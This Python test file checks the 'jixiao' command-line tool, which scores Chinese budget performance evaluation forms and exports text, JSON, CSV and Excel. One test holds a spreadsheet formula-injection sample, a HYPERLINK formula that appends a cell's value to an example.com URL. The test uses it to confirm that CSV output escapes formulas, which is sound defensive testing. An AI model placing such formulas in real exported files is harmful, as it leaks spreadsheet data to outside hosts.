"""The `jixiao` command as a reviewer uses it: exit codes, formats, messages.

usage: python3 tests/cli_test.py PATH/TO/jixiao
"""
import json
import os
import subprocess
import sys
import tempfile
import unittest
import xml.etree.ElementTree as ET
import zipfile

JIXIAO = None
DATA = os.path.join(os.path.dirname(os.path.abspath(__file__)), "data")
EXAMPLES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "examples")


def run(*args, stdin=None):
    p = subprocess.run([JIXIAO, *args], input=stdin, capture_output=True, timeout=60)
    return p.returncode, p.stdout.decode("utf-8"), p.stderr.decode("utf-8")


class EvaluateCommand(unittest.TestCase):
    def test_text_reads_like_the_form(self):
        code, out, err = run("evaluate", os.path.join(DATA, "zz-2021-geodata.json"))
        self.assertEqual(code, 0, err)
        self.assertIn("基础地理信息数据年度更新维护经费", out)
        self.assertIn("总分 99.37 / 100.00  等级 优秀", out)
        self.assertIn("没有完成绩效目标的指标（2）：预算执行率、项目质量可控性", out)
        self.assertIn("EXECUTION_RATE_MISMATCH  indicator i01: reported 99.48 but the budget gives 100.00", out)
        self.assertIn("【投入和管理目标 合计，满分 20.00】", out)

    def test_text_columns_line_up_by_display_width(self):
        code, out, _ = run("evaluate", os.path.join(DATA, "zz-2021-data-governance.json"))
        self.assertEqual(code, 0)
        import unicodedata

        def width(s):
            return sum(2 if unicodedata.east_asian_width(c) in "WF" else 1 for c in s)

        rows = [l for l in out.splitlines() if "checklist" in l or "ratio" in l or "grade" in l]
        self.assertGreater(len(rows), 15)
        # The last column (the rule's name) starts at the same display column on every row.
        starts = {width(l) - len(l.split()[-1]) for l in rows}
        self.assertEqual(len(starts), 1, starts)

    def test_json_is_the_evaluation_result(self):
        code, out, _ = run("evaluate", os.path.join(DATA, "zz-2021-data-governance.json"), "--format", "json")
        self.assertEqual(code, 0)
        result = json.loads(out)
        self.assertEqual(result["total"], "98.66")
        self.assertEqual(result["indicators"][7]["achieved"], False)  # defaults are printed
        self.assertEqual(result["findings"], [])

    def test_binary_input_by_extension(self):
        code, out, _ = run("evaluate", os.path.join(DATA, "zz-2021-geodata.pb"), "--format=json")
        self.assertEqual(code, 0)
        self.assertEqual(json.loads(out)["total"], "99.37")

    def test_standard_input(self):
        with open(os.path.join(DATA, "zz-2021-geodata.json"), "rb") as f:
            code, out, _ = run("evaluate", "-", "--format", "json", stdin=f.read())
        self.assertEqual(code, 0)
        self.assertEqual(json.loads(out)["grade"], "优秀")

    def test_every_example_evaluates(self):
        for name in sorted(os.listdir(EXAMPLES)):
            if name.endswith(".json"):
                code, out, err = run("evaluate", os.path.join(EXAMPLES, name))
                self.assertEqual(code, 0, name + ": " + err)
                self.assertIn("总分", out)

    def test_an_invalid_form_exits_2_with_one_line_naming_the_field(self):
        with tempfile.NamedTemporaryFile("w", suffix=".json", delete=False, encoding="utf-8") as f:
            json.dump({"scheme": "zhengzhou-2021-project", "indicators": [
                {"id": "i07", "level1": "产出目标", "weight": "10", "target": {"value": "100"},
                 "actual": {"number": "93%"}}]}, f, ensure_ascii=False)
        try:
            code, out, err = run("evaluate", f.name)
        finally:
            os.unlink(f.name)
        self.assertEqual(code, 2)
        self.assertEqual(out, "")
        self.assertEqual(len(err.strip().splitlines()), 1)
        self.assertIn("indicator i07 actual.number", err)

    def test_malformed_json_exits_2(self):
        code, _, err = run("evaluate", "-", stdin=b'{"id": "x", "colour": "red"}')
        self.assertEqual(code, 2)
        self.assertIn("colour", err)

    def test_a_missing_file_exits_1(self):
        code, _, err = run("evaluate", "/nonexistent/form.json")
        self.assertEqual(code, 1)
        self.assertIn("cannot open /nonexistent/form.json", err)

    def test_usage_errors_exit_2(self):
        self.assertEqual(run("evaluate")[0], 2)
        self.assertEqual(run("evaluate", os.path.join(DATA, "zz-2021-geodata.json"), "--format", "xml")[0], 2)
        self.assertEqual(run("frobnicate")[0], 2)
        self.assertEqual(run()[0], 2)


class BatchCommand(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp()
        self.forms = os.path.join(self.dir, "forms.jsonl")
        with open(self.forms, "w", encoding="utf-8") as out:
            for name in sorted(os.listdir(EXAMPLES)):
                if name.endswith(".json"):
                    with open(os.path.join(EXAMPLES, name), encoding="utf-8") as f:
                        out.write(json.dumps(json.load(f), ensure_ascii=False) + "\n")
            out.write('{"id": "bad", "scheme": "nope"}\n\nnot json\n')

    def test_summary_table(self):
        code, out, err = run("batch", self.forms, "--summary", "--threads", "2")
        self.assertEqual(code, 0, err)
        self.assertIn("组合概览 portfolio：8 个项目 forms，2 个无法评价 rejected", out)
        self.assertIn("平均 mean 97.95  最低 min 96.03  最高 max 99.80", out)
        self.assertIn("郑州市大数据管理局", out)
        self.assertNotIn("items", out)

    def test_items_in_input_order_with_errors_in_place(self):
        code, out, _ = run("batch", self.forms)
        self.assertEqual(code, 0)
        result = json.loads(out)
        self.assertEqual([i["id"] for i in result["items"]],
                         ["he-langfang-2019-hvac", "henan-2021-department", "mof-2020-project",
                          "yn-yongde-2022-nutrition", "zz-2021-data-governance",
                          "zz-2021-geodata", "bad", ""])
        self.assertEqual(result["items"][6]["error"]["code"], 3)
        self.assertEqual(result["summary"]["failed"], "2")

    def test_outputs_by_extension_and_progress(self):
        jsonl = os.path.join(self.dir, "out.jsonl")
        code, _, err = run("batch", self.forms, "--output", jsonl, "--progress")
        self.assertEqual(code, 0)
        self.assertIn("8 forms", err)
        with open(jsonl, encoding="utf-8") as f:
            lines = f.read().splitlines()
        self.assertEqual(len(lines), 8)
        self.assertEqual(json.loads(lines[5])["result"]["total"], "99.37")
        pbd = os.path.join(self.dir, "out.pbd")
        self.assertEqual(run("batch", self.forms, "--output", pbd)[0], 0)
        self.assertGreater(os.path.getsize(pbd), 1000)

    def test_an_evaluation_batch_document(self):
        path = os.path.join(self.dir, "batch.json")
        with open(os.path.join(EXAMPLES, "zz-2021-geodata.json"), encoding="utf-8") as f:
            form = json.load(f)
        with open(path, "w", encoding="utf-8") as f:
            json.dump({"evaluations": [form, form]}, f, ensure_ascii=False)
        code, out, _ = run("batch", path)
        self.assertEqual(code, 0)
        self.assertEqual(json.loads(out)["summary"]["by_grade"], {"优秀": "2"})

    def test_bad_arguments(self):
        self.assertEqual(run("batch")[0], 2)
        self.assertEqual(run("batch", self.forms, "--threads", "x")[0], 2)
        self.assertEqual(run("batch", "/nonexistent.jsonl")[0], 1)
        truncated = os.path.join(self.dir, "bad.pbd")
        with open(truncated, "wb") as f:
            f.write(b"\x80")
        code, out, err = run("batch", truncated)  # a cut last record is one failed item
        self.assertEqual(code, 0, err)
        item = json.loads(out)["items"][0]
        self.assertEqual(item["error"]["record"], "1")
        self.assertIn("record 1: the file ends inside its length prefix", item["error"]["message"])
        self.assertEqual(run("batch", self.forms, "--input-format", "xml")[0], 2)
        code, _, err = run("batch", self.dir)
        self.assertEqual(code, 1)
        self.assertIn("a directory", err)


def varint(n):
    out = b""
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out += bytes([byte | 0x80])
        else:
            return out + bytes([byte])


def geodata_pb():
    with open(os.path.join(DATA, "zz-2021-geodata.pb"), "rb") as f:
        return f.read()


def delimited(*records):
    return b"".join(varint(len(r)) + r for r in records)


class BatchKeepsEveryGoodResult(unittest.TestCase):
    """Issue 12: one bad record fails its own item, with its place; the rest are kept."""

    def setUp(self):
        self.dir = tempfile.mkdtemp()

    def write(self, name, data):
        path = os.path.join(self.dir, name)
        with open(path, "wb") as f:
            f.write(data)
        return path

    def items(self, path):
        with open(path, encoding="utf-8") as f:
            return [json.loads(line) for line in f.read().splitlines()]

    def test_a_pbd_cut_mid_record_keeps_the_49_before_it(self):
        form = geodata_pb()
        forms = self.write("cut.pbd", delimited(*[form] * 49) + varint(len(form)) + form[:100])
        out = os.path.join(self.dir, "out.jsonl")
        code, summary, err = run("batch", forms, "--output", out, "--summary")
        self.assertEqual(code, 0, err)
        items = self.items(out)
        self.assertEqual(len(items), 50)
        self.assertTrue(all(i["result"]["total"] == "99.37" for i in items[:49]))
        self.assertEqual(items[49]["error"]["record"], "50")
        self.assertIn("record 50: truncated: %d bytes announced, 100 in the file" % len(form),
                      items[49]["error"]["message"])
        self.assertIn("组合概览 portfolio：50 个项目 forms，1 个无法评价 rejected", summary)
        self.assertIn("无法评价 rejected（1）：\n  record 50: truncated", summary)

    def test_a_corrupt_length_prefix_ends_the_stream_with_an_item_saying_so(self):
        form = geodata_pb()
        forms = self.write("corrupt.pbd", delimited(form, form, form) + b"\xff\xff\xff\xff\x7f" + form)
        out = os.path.join(self.dir, "out.jsonl")
        code, _, err = run("batch", forms, "--output", out)
        self.assertEqual(code, 1)  # the forms after it are lost: a script must know
        self.assertIn("record 4: its length prefix announces", err)
        items = self.items(out)  # every earlier result kept and written
        self.assertEqual(len(items), 4)
        self.assertEqual([i["result"]["total"] for i in items[:3]], ["99.37"] * 3)
        self.assertTrue(items[3]["error"]["message"].startswith("record 4: its length prefix announces"))
        self.assertIn("the stream ends here", items[3]["error"]["message"])
        self.assertEqual(items[3]["error"]["record"], "4")

    def test_a_jsonl_line_over_the_limit_fails_only_its_own_item(self):
        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
            line = json.dumps(json.load(f), ensure_ascii=False).encode("utf-8") + b"\n"
        huge = b'{"id": "' + b"x" * (64 << 20) + b'"}\n'
        forms = self.write("big.jsonl", line + b"\n" + huge + b"not json\n" + line)
        out = os.path.join(self.dir, "out.jsonl")
        code, summary, err = run("batch", forms, "--output", out, "--summary")
        self.assertEqual(code, 0, err)
        items = self.items(out)
        self.assertEqual(len(items), 4)
        self.assertEqual((items[0]["result"]["total"], items[3]["result"]["total"]), ("99.37", "99.37"))
        self.assertEqual(items[1]["error"]["record"], "3")  # blank lines are counted
        self.assertIn("line 3: a line over 67108864 bytes", items[1]["error"]["message"])
        self.assertEqual(items[2]["error"]["record"], "4")
        self.assertTrue(items[2]["error"]["message"].startswith("line 4: "))
        self.assertIn("无法评价 rejected（2）：\n  line 3: a line over", summary)
        self.assertIn("\n  line 4: ", summary)

    def test_the_summary_lists_the_first_20_rejected_and_a_count(self):
        forms = self.write("bad.jsonl", b'{"id": "x", "scheme": "nope"}\n' * 25)
        code, summary, err = run("batch", forms, "--summary")
        self.assertEqual(code, 0, err)
        self.assertIn("无法评价 rejected（25）：", summary)
        self.assertIn("  line 20: (x) ", summary)
        self.assertNotIn("line 21:", summary)
        self.assertIn("  … 另有 5 个 and 5 more", summary)


class BatchInputFormat(unittest.TestCase):
    """Issue 12: standard input and files whose name says nothing are read by their content."""

    def setUp(self):
        self.dir = tempfile.mkdtemp()
        self.pbd = delimited(geodata_pb(), geodata_pb())

    def totals(self, out):
        return [i["result"]["total"] for i in json.loads(out)["items"]]

    def test_binary_on_standard_input_is_read_as_binary(self):
        code, out, err = run("batch", "-", stdin=self.pbd)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.totals(out), ["99.37", "99.37"])
        code, out, err = run("batch", "-", "--input-format", "pbd", stdin=self.pbd)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.totals(out), ["99.37", "99.37"])

    def test_json_lines_and_documents_are_told_apart(self):
        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
            form = json.load(f)
        line = ("  " + json.dumps(form, ensure_ascii=False) + "\n").encode("utf-8")
        code, out, err = run("batch", "-", stdin="\ufeff".encode("utf-8") + line * 2)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.totals(out), ["99.37", "99.37"])
        document = json.dumps({"evaluations": [form]}, indent=1).encode("utf-8")
        code, out, err = run("batch", "-", stdin=document)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.totals(out), ["99.37"])
        path = os.path.join(self.dir, "forms.dat")  # the name says nothing
        with open(path, "wb") as f:
            f.write(self.pbd)
        code, out, err = run("batch", path)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.totals(out), ["99.37", "99.37"])
        code, out, err = run("batch", "-", "--input-format", "jsonl", stdin=line)
        self.assertEqual(code, 0, err)
        self.assertEqual(self.totals(out), ["99.37"])

    def test_content_that_is_neither_names_the_flag(self):
        code, _, err = run("batch", "-", stdin=b"\xff\xfe garbage")
        self.assertEqual(code, 2)
        self.assertIn("--input-format json|jsonl|pbd", err)


class OutputFiles(unittest.TestCase):
    """Issue 12: an output appears whole, only when the run succeeds, and never over its input."""

    def setUp(self):
        self.dir = tempfile.mkdtemp()
        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
            self.line = json.dumps(json.load(f), ensure_ascii=False) + "\n"
        self.forms = os.path.join(self.dir, "s.jsonl")
        with open(self.forms, "w", encoding="utf-8") as f:
            f.write(self.line * 3)

    def content(self, path):
        with open(path, "rb") as f:
            return f.read()

    def assertNoTemporaries(self):
        self.assertEqual([n for n in os.listdir(self.dir) if n.startswith(".jixiao-")], [])

    def test_an_output_that_is_the_input_is_refused_also_through_links(self):
        before = self.content(self.forms)
        os.symlink(self.forms, os.path.join(self.dir, "link.jsonl"))
        os.link(self.forms, os.path.join(self.dir, "hard.jsonl"))
        for output in ("s.jsonl", "link.jsonl", "hard.jsonl", "./s.jsonl"):
            code, out, err = run("batch", self.forms, "--output", os.path.join(self.dir, output))
            self.assertEqual(code, 2, output)
            self.assertIn("is the input", err)
            self.assertEqual(self.content(self.forms), before, output)
        form = os.path.join(self.dir, "form.csv")
        with open(GEODATA_UTF8, "rb") as f, open(form, "wb") as out:
            out.write(f.read())
        before = self.content(form)
        for fmt in ("xlsx", "csv", "json"):
            code, _, err = run("evaluate", form, "--scheme", ZHENGZHOU, "--format", fmt, "--output", form)
            self.assertEqual(code, 2, fmt)
            self.assertIn("is the input", err)
            self.assertEqual(self.content(form), before, fmt)
        code, _, err = run("import", form, "--scheme", ZHENGZHOU, "--output", form)
        self.assertEqual(code, 2)
        self.assertEqual(self.content(form), before)
        self.assertNoTemporaries()

    def test_a_failed_run_leaves_the_previous_output_as_it_was(self):
        prev = os.path.join(self.dir, "prev.jsonl")
        with open(prev, "w") as f:
            f.write("the previous results\n")
        code, _, err = run("batch", os.path.join(self.dir, "missing.jsonl"), "--output", prev)
        self.assertEqual(code, 1)
        self.assertEqual(self.content(prev), b"the previous results\n")
        bad = os.path.join(self.dir, "bad.json")
        with open(bad, "w") as f:
            f.write("{not json")
        for args in (("batch", bad), ("evaluate", bad, "--format", "xlsx"),
                     ("evaluate", bad, "--format", "csv")):
            code, _, _ = run(*args, "--output", prev)
            self.assertNotEqual(code, 0, args)
            self.assertEqual(self.content(prev), b"the previous results\n", args)
        self.assertNoTemporaries()

    def test_every_format_writes_its_output_file(self):
        out = os.path.join(self.dir, "out.jsonl")
        self.assertEqual(run("batch", self.forms, "--output", out)[0], 0)
        self.assertEqual(len(self.content(out).splitlines()), 3)
        geodata = os.path.join(DATA, "zz-2021-geodata.json")
        for fmt, check in (("json", b'"total": "99.37"'), ("csv", b"\xef\xbb\xbf"),
                           ("text", "总分 99.37".encode()), ("xlsx", b"PK")):
            path = os.path.join(self.dir, "out." + fmt)
            code, stdout, err = run("evaluate", geodata, "--format", fmt, "--output", path)
            self.assertEqual((code, stdout), (0, ""), err)
            self.assertIn(check, self.content(path), fmt)
            self.assertEqual(os.stat(path).st_mode & 0o777, 0o666 & ~UMASK, fmt)
        path = os.path.join(self.dir, "form.json")
        self.assertEqual(run("import", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--output", path)[0], 0)
        self.assertEqual(json.loads(self.content(path))["id"], "zz-2021-geodata")
        self.assertEqual(run("evaluate", geodata, "--output", "/dev/null")[0], 0)  # not replaced
        self.assertNoTemporaries()


UMASK = os.umask(0)
os.umask(UMASK)


class HelpAndVersion(unittest.TestCase):
    def test_version_prints_the_library_version(self):
        code, out, err = run("--version")
        self.assertEqual(code, 0, err)
        self.assertRegex(out, r"^jixiao \d+\.\d+\.\d+\n$")

    def test_help_lists_every_command_and_the_workbook_forms(self):
        for flag in ("help", "--help", "-h"):
            code, out, err = run(flag)
            self.assertEqual(code, 0, err)
            for command in ("evaluate", "import", "parse-target", "schemes", "batch",
                            "check-budget", "targets", "skeleton", "help"):
                self.assertIn("jixiao " + command, out)
            self.assertIn("--version", out)
            self.assertIn("FORM.xlsx|FORM.xls", out)

    def test_no_command_is_usage_on_stderr_exit_2(self):
        code, out, err = run()
        self.assertEqual(code, 2)
        self.assertEqual(out, "")
        self.assertIn("usage:", err)


class SchemesCommand(unittest.TestCase):
    def test_lists_the_four_built_in_schemes(self):
        code, out, _ = run("schemes")
        self.assertEqual(code, 0)
        schemes = json.loads(out)["schemes"]
        self.assertEqual([s["name"] for s in schemes],
                         ["zhengzhou-2021-project", "suzhou-2020-project", "mof-2020-project",
                          "henan-2021-department"])
        suzhou = schemes[1]
        self.assertEqual([c["points"] for c in suzhou["categories"]], ["26", "24", "22", "8"])
        self.assertEqual(suzhou["categories"][0]["quantitative_rule"]["deduction"],
                         {"below_per_point": "5", "band_upper": "130", "above_per_point": "1",
                          "absolute_points": False})
        self.assertEqual(schemes[3]["categories"][0]["allocation"], "EXPLICIT")
        self.assertEqual(schemes[0]["derived_names"]["预算资金到位情况"], "ARRIVAL_RATE")

    def test_a_listed_scheme_works_as_a_custom_scheme(self):
        _, out, _ = run("schemes")
        mof = json.loads(out)["schemes"][2]
        mof["name"] = "my-copy-of-mof"
        with open(os.path.join(EXAMPLES, "mof-2020-project.json"), encoding="utf-8") as f:
            form = json.load(f)
        form.pop("scheme")
        form["custom_scheme"] = mof
        code, out, err = run("evaluate", "-", "--format", "json",
                             stdin=json.dumps(form, ensure_ascii=False).encode("utf-8"))
        self.assertEqual(code, 0, err)
        self.assertEqual(json.loads(out)["total"], "96.03")


# ---- forms in and out: CSV import, parse-target, Excel (docs/IMPORT.md) ----------------------

GEODATA_GB18030 = os.path.join(EXAMPLES, "zz-2021-geodata.gb18030.csv")
GEODATA_UTF8 = os.path.join(EXAMPLES, "zz-2021-geodata.csv")
ZHENGZHOU = "zhengzhou-2021-project"
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def xlsx_cells(path, sheet):
    """The cells of worksheet `sheet` (1-based) as {"A1": value}: shared strings resolved,
    numbers as floats. The same parts `unzip -p FILE xl/worksheets/sheet1.xml` shows."""
    with zipfile.ZipFile(path) as z:
        strings = ["".join(t.text or "" for t in si.iter(SHEET + "t"))
                   for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall(SHEET + "si")]
        root = ET.fromstring(z.read("xl/worksheets/sheet%d.xml" % sheet))
        merged = [m.get("ref") for m in root.iter(SHEET + "mergeCell")]
    cells = {}
    for c in root.iter(SHEET + "c"):
        v = c.find(SHEET + "v")
        if v is not None:
            cells[c.get("r")] = strings[int(v.text)] if c.get("t") == "s" else float(v.text)
    return cells, merged


class ImportCommand(unittest.TestCase):
    def test_import_prints_an_evaluation_that_scores_like_the_json_form(self):
        code, out, err = run("import", GEODATA_GB18030, "--scheme", ZHENGZHOU)
        self.assertEqual(code, 0, err)
        form = json.loads(out)
        self.assertEqual(form["id"], "zz-2021-geodata")
        self.assertEqual(form["name"], "基础地理信息数据年度更新维护经费")
        self.assertEqual(len(form["indicators"]), 18)
        self.assertEqual(form["indicators"][7]["actual"], {"factor": "66", "text": "66%"})
        code, out, err = run("evaluate", "-", "--format", "json", stdin=out.encode("utf-8"))
        self.assertEqual(code, 0, err)
        self.assertEqual(json.loads(out)["total"], "99.37")

    def test_evaluate_reads_csv_in_either_encoding(self):
        for path in (GEODATA_GB18030, GEODATA_UTF8):
            code, out, err = run("evaluate", path, "--scheme", ZHENGZHOU)
            self.assertEqual(code, 0, err)
            self.assertIn("总分 99.37 / 100.00  等级 优秀    自评：99.37 优秀", out)
            self.assertIn("项目质量可控性", out)

    def test_a_csv_form_needs_a_scheme(self):
        for command in ("import", "evaluate"):
            code, out, err = run(command, GEODATA_UTF8)
            self.assertEqual(code, 2)
            self.assertIn("--scheme", err)
        code, _, err = run("import", GEODATA_UTF8, "--scheme", "nowhere")
        self.assertEqual(code, 2)
        self.assertIn("nowhere", err)

    def test_every_bad_row_is_listed_with_its_line(self):
        csv = ("一级指标,三级指标,目标值,业绩值\r\n产出,a,≥1,1\r\n产出,b,≥,1\r\n成效,c,≥1,1\r\n"
               .encode("gb18030"))
        code, out, err = run("import", "-", "--scheme", ZHENGZHOU, stdin=csv)
        self.assertEqual(code, 2)
        self.assertEqual(out, "")
        self.assertIn("cannot import the form (2 problems)", err)
        self.assertIn("line 3: 目标值: target \"≥\"", err)
        self.assertIn("line 4: 一级指标 \"成效\"", err)

    def test_a_second_total_row_is_a_finding_in_the_review(self):
        with open(GEODATA_UTF8, encoding="utf-8") as f:
            csv = f.read().replace("总分,,,100,,,99.37,,", "总分,,,100,,,88.00,,\r\n合计,,,100,,,99.37,,")
        code, out, err = run("evaluate", "-", "--scheme", ZHENGZHOU, stdin=csv.encode("utf-8"))
        self.assertEqual(code, 0, err)
        self.assertIn("TOTAL_MISMATCH", out)
        self.assertIn("DUPLICATE_REPORTED  total reported twice: 88.00, then 99.37 (line 29), "
                      "which agrees with the computed 99.37", out)
        self.assertNotIn("复核发现：无", out)

    def test_csv_output_cells_never_run_as_formulas(self):
        with open(os.path.join(DATA, "zz-2021-geodata.json"), encoding="utf-8") as f:
            form = json.load(f)
        form["indicators"][1]["name"] = '=HYPERLINK("http://example.com/?"&A1,"点击")'
        code, out, err = run("evaluate", "-", "--format", "csv", stdin=json.dumps(form).encode())
        self.assertEqual(code, 0, err)
        self.assertIn('"\'=100%"', out)  # the target, which Excel showed as 1
        self.assertIn('"\'=HYPERLINK(""http://example.com/?""&A1,""点击"")"', out)
        self.assertNotIn(",=", out)
        code, out, err = run("evaluate", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--format", "csv")
        self.assertEqual(code, 0, err)
        self.assertIn('"\'=1200平方公里"', out)  # #NAME? in Excel before

    def test_evaluate_and_import_read_workbooks(self):
        geodata_xlsx = os.path.join(EXAMPLES, "zz-2021-geodata.xlsx")
        geodata_xls = os.path.join(DATA, "zz-2021-geodata.xls")
        for path in (geodata_xlsx, geodata_xls):
            code, out, err = run("evaluate", path, "--scheme", ZHENGZHOU)
            self.assertEqual(code, 0, err)
            self.assertIn("总分 99.37 / 100.00  等级 优秀    自评：99.37 优秀", out)
            code, out, err = run("import", path, "--scheme", ZHENGZHOU, "--sheet", "自评表")
            self.assertEqual(code, 0, err)
            self.assertEqual(json.loads(out)["id"], "zz-2021-geodata")
            self.assertEqual(len(json.loads(out)["indicators"]), 18)
        # A workbook on standard input is told by its first bytes.
        with open(geodata_xlsx, "rb") as f:
            code, out, err = run("import", "-", "--scheme", ZHENGZHOU, stdin=f.read())
        self.assertEqual(code, 0, err)

    def test_workbook_errors_name_the_sheet(self):
        geodata_xlsx = os.path.join(EXAMPLES, "zz-2021-geodata.xlsx")
        code, out, err = run("import", geodata_xlsx, "--scheme", ZHENGZHOU, "--sheet", "附表1")
        self.assertEqual(code, 2)
        self.assertIn('no sheet named "附表1"; its sheets: 自评表, 复核发现', err)
        code, out, err = run("evaluate", geodata_xlsx)
        self.assertEqual(code, 2)
        self.assertIn("--scheme", err)
        code, out, err = run("evaluate", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--sheet", "x")
        self.assertEqual(code, 2)
        self.assertIn("--sheet is for workbooks", err)
        with open(geodata_xlsx, "rb") as f:
            truncated = f.read()[:1000]
        code, out, err = run("import", "-", "--scheme", ZHENGZHOU, stdin=truncated)
        self.assertEqual(code, 2)
        self.assertIn("not a readable xlsx file", err)

    def test_parse_target_prints_the_target(self):
        code, out, _ = run("parse-target", "15%及其以下")
        self.assertEqual(code, 0)
        self.assertEqual(json.loads(out), {"comparator": "AT_MOST", "value": "15", "upper": "",
                                           "unit": "%", "text": "15%及其以下"})
        code, out, _ = run("parse-target", "１００％－１３０％")
        self.assertEqual(json.loads(out)["comparator"], "BETWEEN")
        self.assertEqual(json.loads(out)["upper"], "130")
        code, out, err = run("parse-target", "≥")
        self.assertEqual(code, 2)
        self.assertIn("a comparator must be followed by a number", err)
        self.assertEqual(run("parse-target")[0], 2)


class ExcelReport(unittest.TestCase):
    def setUp(self):
        self.dir = tempfile.mkdtemp()

    def tearDown(self):
        for name in os.listdir(self.dir):
            os.unlink(os.path.join(self.dir, name))
        os.rmdir(self.dir)

    def evaluate_to_xlsx(self, *args):
        path = os.path.join(self.dir, "out.xlsx")
        code, out, err = run("evaluate", *args, "--format", "xlsx", "--output", path)
        self.assertEqual(code, 0, err)
        self.assertEqual(out, "")
        return path

    def test_the_form_sheet_has_the_columns_subtotals_total_and_grade(self):
        cells, merged = xlsx_cells(self.evaluate_to_xlsx(GEODATA_GB18030, "--scheme", ZHENGZHOU), 1)
        self.assertEqual([cells[c + "2"] for c in "ABCDEFGHI"],
                         ["一级指标", "二级指标", "三级指标", "权重", "目标值", "业绩值", "得分率",
                          "得分", "自评分"])
        self.assertEqual(cells["A3"], "投入和管理目标")
        self.assertEqual(cells["C3"], "预算执行率")
        self.assertEqual(cells["E3"], "=100%")
        self.assertEqual(cells["F3"], "99.48%")
        # Numbers are numbers (display-only doubles): weight, factor, score, reported score.
        self.assertEqual([round(cells[c + "3"], 2) for c in "DGHI"], [1.82, 99.48, 1.81, 1.81])
        self.assertEqual(round(cells["H10"], 2), 1.2)  # 项目质量可控性 2 of 3: 1.82 × 66 %
        self.assertEqual(cells["C14"], "投入和管理目标 小计（满分 20.00）")
        self.assertEqual(round(cells["H14"], 2), 19.37)
        self.assertIn("A3:A13", merged)  # the category cell spans its rows, as on the form
        self.assertIn("B9:B13", merged)
        self.assertEqual(cells["A25"], "总分")
        self.assertEqual(round(cells["H25"], 2), 99.37)
        self.assertEqual((cells["A26"], cells["H26"], cells["I26"]), ("等级", "优秀", "优秀"))

    def test_the_findings_sheet_lists_every_finding(self):
        path = self.evaluate_to_xlsx(os.path.join(EXAMPLES, "henan-2021-department.json"))
        cells, _ = xlsx_cells(path, 2)
        self.assertEqual([cells[c + "1"] for c in "ABCDEF"],
                         ["级别", "代码", "指标", "说明", "自评值", "计算值"])
        self.assertEqual([cells["B%d" % r] for r in (2, 3, 4)],
                         ["SCORE_MISMATCH", "SUBTOTAL_MISMATCH", "TOTAL_MISMATCH"])
        self.assertEqual(cells["C2"], "i03 政府采购执行率")
        self.assertEqual((cells["E2"], cells["F2"]), (2.92, 2.93))
        form, _ = xlsx_cells(path, 1)
        self.assertIn(96.61, form.values())  # the reported total beside the computed 96.62

    def test_the_review_columns_appear_for_a_reviewed_form(self):
        cells, _ = xlsx_cells(self.evaluate_to_xlsx(os.path.join(EXAMPLES, "mof-2020-project.json")), 1)
        self.assertEqual((cells["J2"], cells["K2"]), ("复核业绩值", "复核得分"))
        self.assertIn(95.88, [round(v, 2) for v in cells.values() if isinstance(v, float)])

    def test_the_example_workbook_is_what_the_example_csv_gives(self):
        fresh = self.evaluate_to_xlsx(GEODATA_GB18030, "--scheme", ZHENGZHOU)
        self.assertEqual(xlsx_cells(fresh, 1), xlsx_cells(os.path.join(EXAMPLES, "zz-2021-geodata.xlsx"), 1))

    def test_xlsx_needs_an_output_file(self):
        code, _, err = run("evaluate", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--format", "xlsx")
        self.assertEqual(code, 2)
        self.assertIn("--output", err)
        code, _, err = run("evaluate", GEODATA_UTF8, "--scheme", ZHENGZHOU, "--format", "xlsx",
                           "--output", "/nonexistent/dir/out.xlsx")
        self.assertEqual(code, 1)
        self.assertIn("/nonexistent/dir/out.xlsx", err)


if __name__ == "__main__":
    JIXIAO = os.path.abspath(sys.argv.pop(1))
    unittest.main(verbosity=1)
